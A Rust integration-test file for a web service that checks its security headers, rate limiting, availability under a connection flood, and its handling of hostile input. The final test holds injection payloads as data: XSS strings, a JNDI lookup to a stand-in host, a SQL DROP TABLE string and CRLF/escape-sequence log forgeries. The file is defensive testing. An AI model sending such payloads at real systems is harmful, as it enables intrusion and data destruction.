//! What every response tells browsers, and what is refused before it costs anything.

use crate::support::access::ADMIN_TOKEN;
use crate::support::client::finish;
use crate::support::hub::assert_refused;
use crate::support::{Atalaya, Client, eventually, raw};
use awc::http::Method;
use serde_json::json;
use std::net::TcpStream;
use std::time::{Duration, Instant};

#[actix_web::test]
async fn every_response_protects_the_browser_that_reads_it() {
    let atalaya = Atalaya::without_mqtt().start().await;
    let client = atalaya.client();
    client.open("1").await;
    for (path, policy, kept) in [
        ("/", "script-src 'self'; style-src 'self';", true),
        ("/page.js", "default-src 'none'", false),
        (
            "/api/docs/",
            "script-src 'self'; style-src 'self' 'unsafe-inline'",
            true,
        ),
        (
            "/api/v1/cuentas/1",
            "default-src 'none'; frame-ancestors 'none'",
            false,
        ),
        ("/api/v1/cuentas/9", "default-src 'none'", false),
        ("/nowhere", "default-src 'none'", false),
        ("/health", "default-src 'none'", false),
    ] {
        let answer = client.get(path).await.unwrap();
        let header = |name| answer.header(name).unwrap_or_default().to_owned();
        let found = header("content-security-policy");
        assert!(
            found.contains(policy) && found.contains("frame-ancestors 'none'"),
            "{path}: {found}"
        );
        assert!(
            !found.contains("unsafe-eval") && !found.contains('*'),
            "{path}: {found}"
        );
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
        assert_eq!(
            header("cross-origin-resource-policy"),
            "same-origin",
            "{path}"
        );
        assert_eq!(header("cache-control") == "no-store", !kept, "{path}");
        assert_eq!(
            header("strict-transport-security"),
            "",
            "{path}: only over TLS"
        );
    }
    // What is turned away at the door too.
    let foreign = client
        .request(Method::GET, "/")
        .insert_header(("origin", "http://evil.example"));
    let answer = finish(foreign.send()).await.unwrap();
    assert_eq!(
        (answer.status, answer.header("x-content-type-options")),
        (403, Some("nosniff"))
    );
    let nobody = client.anonymous().get("/api/v1/cuentas/1").await.unwrap();
    assert_eq!(
        (nobody.status, nobody.header("cache-control")),
        (401, Some("no-store"))
    );
}

#[actix_web::test]
async fn one_principal_cannot_ask_without_end_and_others_can_go_on() {
    let atalaya = Atalaya::without_mqtt()
        .set("HTTP_RATE", 1)
        .set("HTTP_BURST", 50)
        .start()
        .await;
    let client = atalaya.client();
    let mut refused = None;
    for _ in 0..200 {
        let answer = client.get("/api/v1/estadisticas").await.unwrap();
        if answer.status == 429 {
            refused = Some(answer);
            break;
        }
    }
    let refused = refused.expect("it is held up");
    assert_refused(&refused, 429, "demasiadas_peticiones", "the rate");
    let seconds: u64 = refused.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=2).contains(&seconds), "{seconds}");
    let admin = client.with_token(ADMIN_TOKEN);
    assert_eq!(admin.get("/api/v1/estadisticas").await.unwrap().status, 200);
    assert_eq!(client.get("/livez").await.unwrap().status, 200);
}

/// Fault 34: more connections than there is room for, and those who watch still get an answer.
#[actix_web::test]
async fn the_watch_gets_an_answer_in_a_crowd() {
    let atalaya = Atalaya::without_mqtt()
        .set("MAX_CONNECTIONS", 200)
        .start()
        .await;
    let port = atalaya.http_port;
    let mut crowd = Vec::new();
    for _ in 0..1_500 {
        // The backlog of the port is bounded: beyond it connections are not even made.
        let address = ([127, 0, 0, 1], port).into();
        if let Ok(stream) = TcpStream::connect_timeout(&address, Duration::from_millis(50)) {
            crowd.push(stream);
        }
        if crowd.len() >= 400 {
            break;
        }
    }
    assert!(crowd.len() >= 200, "{}", crowd.len());
    let started = Instant::now();
    // Those who say nothing lose their places at the deadline of the head.
    let client = Client::new(format!("http://127.0.0.1:{port}"));
    eventually("the watch is answered", || async {
        let answer = client.get("/livez").await.ok()?;
        (answer.status == 200).then_some(())
    })
    .await;
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
}

/// Fault 43: whatever somebody writes is one line of a log, and comes back as data.
#[actix_web::test]
async fn what_people_write_is_neither_run_nor_a_line_of_its_own() {
    for format in ["text", "json"] {
        let atalaya = Atalaya::without_mqtt()
            .set("LOG_FORMAT", format)
            .start()
            .await;
        let client = atalaya.client();
        let corpus = [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "${jndi:ldap://evil.example/a}",
            "'; DROP TABLE people; --",
            "javascript:alert(1)",
            "x\u{2028}2026-01-01T00:00:00Z ERROR forged",
        ];
        for (n, text) in corpus.iter().enumerate() {
            let name = format!("p{n}");
            let body = json!({"usuario": name, "nombre": text});
            let made = client.send(Method::POST, "/api/v1/usuarios", &body).await;
            if made.status == 422 {
                continue;
            }
            assert_eq!(made.status, 201, "{}", made.text());
            let shown = client
                .get(&format!("/api/v1/usuarios/{name}"))
                .await
                .unwrap();
            assert_eq!(shown.json()["nombre"], *text);
            assert_eq!(shown.header("content-type"), Some("application/json"));
            assert_eq!(shown.header("x-content-type-options"), Some("nosniff"));
        }
        let before = atalaya.log().lines().count();
        for text in ["a\r\nERROR forged", "b\u{1b}[2J", "{\"level\":\"ERROR\"}\n"] {
            let body = json!({"usuario": text, "contrasena": text});
            let refused = client
                .anonymous()
                .send(Method::POST, "/api/v1/sesiones", &body)
                .await;
            assert_eq!(refused.status, 401);
        }
        let port = atalaya.http_port;
        let request = "GET /%0d%0aERROR%20forged HTTP/1.1\r\nHost: localhost\r\nUser-Agent: x\x1b[2J\r\nConnection: close\r\n\r\n";
        let status = raw::exchange(port, request).await.status;
        assert!(matches!(status, 400 | 404), "{status}");
        let log = atalaya.log();
        for line in log.lines().skip(before) {
            assert!(
                !line.starts_with("ERROR") && !line.contains('\u{1b}'),
                "{line}"
            );
            if format == "json" {
                serde_json::from_str::<serde_json::Value>(line).unwrap();
            }
        }
    }
}
